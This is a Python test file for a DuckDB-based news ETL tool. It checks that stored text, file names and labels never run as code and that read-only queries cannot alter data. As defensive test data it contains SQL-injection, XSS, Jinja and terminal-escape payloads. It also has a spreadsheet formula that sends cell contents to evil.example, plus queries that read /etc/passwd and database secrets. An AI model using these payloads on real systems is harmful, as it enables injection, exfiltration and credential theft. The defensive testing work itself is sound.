"""Nothing from a text, a file name or a label becomes code: SQL, HTML, CSV formulas, terminal escapes, Markdown, Jinja, paths."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from articles import HARBOUR, MATCH, Desk
from newsetl import cli, pipeline, read
from newsetl.errors import SettingsError
from newsetl.settings import Settings
from newsetl.warehouse.verify import verify

SQL = "Robert'); drop table core.documents; --"
HTML = "<script>alert('x')</script><img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ESCAPE = "\x1b]0;owned\x07\x1b[2J\u009b31mred\u202etxt.exe"
MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/p.png) | <b>"
JINJA = "{{ 7*7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %} ${7*7} %(x)s {0}"
ALL = (SQL, HTML, FORMULA, ESCAPE, MARKDOWN, JINJA)


def _text(hostile: str) -> str:
    line = hostile.replace("\n", " ")
    return (
        f"Title: {line}\nSource: {line}\nByline: {line}\nDate: 2024-03-06\n\n{line}\n\n"
        f"The mayor of Brest, Alan {line} Kerr, spoke on Wednesday. "
        f'"We have heard {line}," said the minister, Claire Whitford {line}. Parliament passed the budget after a long debate in Ottawa.\n'
    )


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    desk = Desk(tmp_path_factory.mktemp('it\'s [odd] * "folder" {{x}} 100%'))
    for number, hostile in enumerate(ALL):
        desk.write(f"{number} {hostile.replace('/', '∕')[:60]}.txt", _text(hostile))
    desk.write(f"empty {ESCAPE}{HTML.replace('/', '∕')}.txt", "")
    desk.write("-rf.txt", MATCH)
    desk.write("..txt", HARBOUR)
    pipeline.run([f"{SQL.replace('=', '')}={desk.raw}"], desk.settings)
    return desk


def call(*arguments: str) -> int:
    try:
        cli.main(list(arguments))
    except SystemExit as end:
        return int(end.code or 0)
    return 0


def test_texts_names_and_labels_are_stored_as_they_are(desk: Desk) -> None:
    stored = {str(row[0]) for row in desk.ask("select text from documents")}
    assert stored >= {_text(hostile) for hostile in ALL}
    assert desk.value("select count(*) from documents where title = '" + HTML.replace("'", "''") + "'") == 1
    assert desk.value("select distinct root from meta.files") == SQL
    assert verify(desk.settings).sound
    assert pipeline.run([f"{SQL}={desk.raw}"], desk.settings).status == "unchanged"


@pytest.mark.parametrize(
    "arguments",
    [
        ("sql", "from documents"),
        ("sql", "from documents", "--format", "json"),
        ("sql", "select text, title from documents where text like '%owned%'"),
        ("rejects",),
        ("rejects", "--json"),
        ("status",),
        ("status", "--json"),
        ("docs",),
        ("verify",),
        ("snapshots",),
    ],
)
def test_a_terminal_is_told_nothing_to_obey(desk: Desk, arguments: tuple[str, ...], capsys: pytest.CaptureFixture[str]) -> None:
    assert call(*arguments, "--warehouse", str(desk.settings.warehouse)) == 0
    out = capsys.readouterr().out
    assert [c for c in out if not c.isprintable() and c != "\n"] == []
    if "json" in "".join(arguments):
        json.loads(out)


def test_an_error_tells_a_terminal_nothing_to_obey(desk: Desk, capsys: pytest.CaptureFixture[str]) -> None:
    assert call("sql", f"select '{ESCAPE}' from nowhere", "--warehouse", str(desk.settings.warehouse)) == cli.EXIT_FAILED
    assert [c for c in capsys.readouterr().err if not c.isprintable() and c != "\n"] == []


def test_csv_has_no_formulas_and_loses_nothing(desk: Desk, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    query = ("sql", "select title, text from documents order by title", "--format", "csv", "--warehouse", str(desk.settings.warehouse))
    assert call(*query) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert not [cell for row in rows for cell in row if cell[:1] in tuple("=+-@\t\r")]
    assert "'" + FORMULA in [row[0] for row in rows]
    assert _text(ESCAPE) in [row[1] for row in rows]
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    assert call(*query) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_the_report_is_a_page_and_no_program(desk: Desk, tmp_path: Path) -> None:
    pytest.importorskip("newsetl.report")
    assert call("report", "--output", str(tmp_path / "r.html"), "--warehouse", str(desk.settings.warehouse)) == 0
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>alert" not in page
    assert "<img src=x" not in page
    assert "\x1b" not in page
    assert 'href="javascript:' not in page.lower()
    assert "{{ 7*7 }}" in page or "7*7" not in page
    assert "http://evil.example" not in [part.split('"')[0] for part in page.split('src="')[1:]]


def test_prefect_markdown_shows_and_does_nothing(desk: Desk) -> None:
    from newsetl.pipeline import RunReport
    from newsetl_artifacts import failure_markdown, report_markdown

    report = RunReport("r", "published", rejects={MARKDOWN: 1})
    for text in (report_markdown(report, desk.settings), failure_markdown(" ".join(ALL))):
        assert "](" not in text.replace("\\]\\(", "")
        assert "<" not in text
        assert "\x1b" not in text
        assert "\u202e" not in text


@pytest.mark.parametrize(
    "query",
    [
        "attach ':memory:' as other",
        "attach 'x.duckdb' as other",
        "update meta.runs set status = 'x'",
        "drop table core.documents",
        "create table t as select 1",
        "create or replace view documents as select 1",
        "copy (select 1) to 'x.csv'",
        "copy core.documents from 'x.csv'",
        "install fts",
        "load fts",
        "import database 'x'",
        "export database 'x'",
        "from read_csv('/etc/passwd')",
        "from read_blob('/etc/passwd')",
        "from glob('/*')",
        "from '/etc/passwd'",
        "from 'https://example.org/x.parquet'",
        "select * from duckdb_secrets() union all select * from read_text('/etc/hostname')",
        "set lock_configuration = false",
        "set enable_external_access = true",
        "pragma memory_limit = '1TB'",
        "set temp_directory = '/tmp/x'",
        "create secret s (type s3)",
        "select 1; drop table core.documents",
    ],
)
def test_reading_is_only_reading(desk: Desk, query: str, capsys: pytest.CaptureFixture[str]) -> None:
    before = desk.settings.warehouse.read_bytes()
    files = sorted(os.listdir(desk.settings.warehouse.parent))
    code = call("sql", query, "--warehouse", str(desk.settings.warehouse))
    captured = capsys.readouterr()
    assert desk.settings.warehouse.read_bytes() == before
    assert sorted(os.listdir(desk.settings.warehouse.parent)) == files
    assert code == cli.EXIT_FAILED, captured.out
    assert captured.err.startswith("newsetl: ")
    assert "Traceback" not in captured.err


def test_a_question_has_an_end(desk: Desk, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("NEWSETL_QUERY_SECONDS", "1")
    query = "select count(*) from range(1000000000) a, range(1000000000) b where a.range * b.range = 7"
    assert call("sql", query, "--warehouse", str(desk.settings.warehouse)) == cli.EXIT_FAILED
    assert "stopped after 1 s" in capsys.readouterr().err


def test_paths_stay_in_their_folder(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text(HARBOUR)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.txt").write_text(HARBOUR)
    desk = Desk(tmp_path / "desk")
    desk.write("good.txt", MATCH)
    (desk.raw / "up.txt").symlink_to("../../secret.txt")
    (desk.raw / "around").symlink_to("../../elsewhere")
    (desk.raw / "self").symlink_to(".")
    (desk.raw / "dangling.txt").symlink_to("nowhere.txt")
    (desk.raw / "within.txt").symlink_to("good.txt")
    (desk.raw / "zero").symlink_to("/dev/zero")
    os.mkfifo(desk.raw / "pipe.txt")
    report = desk.run()
    assert dict(desk.ask("select path, reason from stg.current_rejects")) == {
        "up.txt": "outside_root",
        "around": "outside_root",
        "zero": "outside_root",
        "dangling.txt": "unreadable",
        "pipe.txt": "not_a_file",
    }
    assert (report.documents_loaded, report.files_duplicate) == (1, 1)


def test_a_deep_folder_is_walked() -> None:
    top = tempfile.mkdtemp(prefix="newsetl-deep-")  # not below tmp_path: pytest cannot remove it
    try:
        place = os.open(top, os.O_RDONLY)
        for _ in range(1_500):
            os.mkdir("d", dir_fd=place)
            below = os.open("d", os.O_RDONLY, dir_fd=place)
            os.close(place)
            place = below
        os.close(os.open("deep.txt", os.O_WRONLY | os.O_CREAT, dir_fd=place))
        os.close(place)
        assert [entry.path for entry in read.walk(Path(top))] == ["d/" * 1_500 + "deep.txt"]
    finally:
        subprocess.run(["rm", "-rf", top], check=True)


def test_work_is_split_among_processes_below_an_odd_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline, "INLINE_FILES", 0)
    folder = tmp_path / "a [b] *"
    folder.mkdir()
    desk = Desk(folder / "%20'")
    desk.write("a.txt", HARBOUR)
    assert pipeline.run([str(desk.raw)], Settings(warehouse=desk.settings.warehouse, workers=2)).documents_loaded == 1
    with pytest.raises(SettingsError, match="question mark"):
        pipeline.run([str(desk.raw)], Settings(warehouse=folder / "?" / "w.duckdb"))
